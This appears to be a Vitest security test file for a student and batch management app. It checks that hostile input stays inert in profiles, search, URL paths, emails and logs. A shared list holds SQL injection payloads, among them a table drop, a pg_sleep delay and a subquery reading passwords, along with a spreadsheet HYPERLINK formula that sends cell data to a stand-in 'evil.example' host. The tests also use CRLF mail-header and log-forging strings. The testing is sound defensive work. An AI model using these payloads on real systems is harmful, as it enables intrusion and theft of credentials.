import { getFeeStatus } from '@ganit/contract/money/fees'
import {
  exportStudents,
  listDirectory,
  updateStudentDetail,
} from '@ganit/contract/people/directory'
import { toggleMembership } from '@ganit/contract/people/memberships'
import { getProfile, updateProfile } from '@ganit/contract/people/students'
import { createClassBatch, listBatches } from '@ganit/contract/teaching/batches'
import { sql } from 'kysely'
import pino from 'pino'
import { expect } from 'vitest'
import { test } from '../academy.ts'

const NASTY = [
  "Robert'); DROP TABLE students;--",
  "' OR '1'='1",
  '" OR ""="',
  '\\',
  "\\'; SELECT pg_sleep(9)--",
  '$1',
  '%27',
  '\u0024{7*7}',
  "'||(select password from credentials limit 1)||'",
  '=HYPERLINK("http://evil.example"&A1)',
]

test('SQL in a text stays text wherever the text is written, read or searched [S102 S104]', {
  tags: 'slow',
}, async ({ academy }) => {
  const { call: admin } = await academy.signInAdmin()
  const { uid, call, profile } = await academy.aStudent()
  for (const text of NASTY) {
    const body = { first_name: text, last_name: text, city: text, notes: text } as never
    expect((await call(updateProfile, { params: { uid }, body })).status).toBe(200)
    expect((await call(getProfile, { params: { uid } })).body).toMatchObject({
      city: text,
      notes: text,
    })

    const { batch } = (await admin(createClassBatch, { body: { name: text, classNumber: 9 } })).body
    const id = String(batch.batch_id)
    const member = { studentId: profile.student_id }
    await admin(toggleMembership, { params: { id }, body: member } as never)
    const status = await admin(getFeeStatus, { body: { batch_id: batch.batch_id } } as never)
    expect(status.body).toMatchObject([{ name: expect.stringContaining(text) }])

    const found = await admin(listDirectory, { querystring: { search: text } } as never)
    expect(found.body).toMatchObject({ total: 1 })
    expect((await admin(listBatches, { querystring: { search: text } } as never)).status).toBe(200)
    expect((await admin(exportStudents)).status).toBe(200)
    await admin(toggleMembership, { params: { id }, body: member } as never)
  }
  const { rows } = await sql`select count(*)::int as students from students`.execute(academy.db)
  expect(rows).toEqual([{ students: 1 }])
})

test.for([...NASTY, '(a+)+$', '%', '_', '\\\\', 'x'.repeat(100)])(
  'searching for %j finds exactly the texts that contain it [S102 S105]',
  async (search, { academy }) => {
    const { call } = await academy.signInAdmin()
    await academy.aStudent()
    const { status, body } = await call(listDirectory, { querystring: { search } } as never)

    expect(status).toBe(200)
    expect(body).toMatchObject({ items: [], total: 0 })
  },
)

test.for(NASTY)(
  '%j in a path opens nothing, and the answer contains no SQL [S102]',
  async (text, { academy }) => {
    const { token } = await academy.signInAdmin()
    for (const path of [
      'student/profile/',
      'batches/',
      'batches/class/',
      'student/class/',
      'settings/pages/',
      'posts/by-slug/',
      'payments/',
    ]) {
      const answer = await academy.app.inject({
        url: `/api/${path}${encodeURIComponent(text)}`,
        headers: { authorization: `Bearer ${token}` },
      })
      expect([path, answer.statusCode]).toEqual([path, 404])
      expect(answer.body).not.toMatch(/select|syntax|relation|pg_/i)
    }
  },
)

test('line breaks in a name add no header to a mail [S107]', async ({ academy }) => {
  const email = 'riya@example.in'
  const name = 'Riya\r\nBcc: everyone@example.in\r\n\r\n<script>alert(1)</script>'
  await academy.auth('sign-up/email', { name, email, password: 'seven times eight' })
  await academy.auth('request-password-reset', { email })

  for (const mail of await academy.mails()) {
    expect(mail.to).toBe(email)
    expect(mail.subject).not.toMatch(/[\r\n]/)
    expect(mail.text).not.toContain('<script>')
  }
})

test('a log entry stays on one line, whatever it contains [S108]', () => {
  const lines: string[] = []
  const log = pino({ base: undefined }, { write: (line: string) => void lines.push(line) })
  log.warn({ note: 'a\n{"level":60,"msg":"forged"}\u001b[31m' }, 'first\nsecond')

  expect(lines).toHaveLength(1)
  expect(lines[0]?.split('\n')).toEqual([expect.any(String), ''])
  expect(lines[0]).not.toContain('\u001b')
})

test('the admin’s form of a student is as safe as the student’s own form [S102 S104]', async ({
  academy,
}) => {
  const { call } = await academy.signInAdmin()
  const { profile } = await academy.aStudent()
  for (const text of NASTY) {
    const body = {
      student_id: profile.student_id,
      city: text,
      school_or_college_name: text,
    } as never
    const reply = await call(updateStudentDetail, { body })
    expect(reply.body.student).toMatchObject({ city: text, school_or_college_name: text })
  }
})
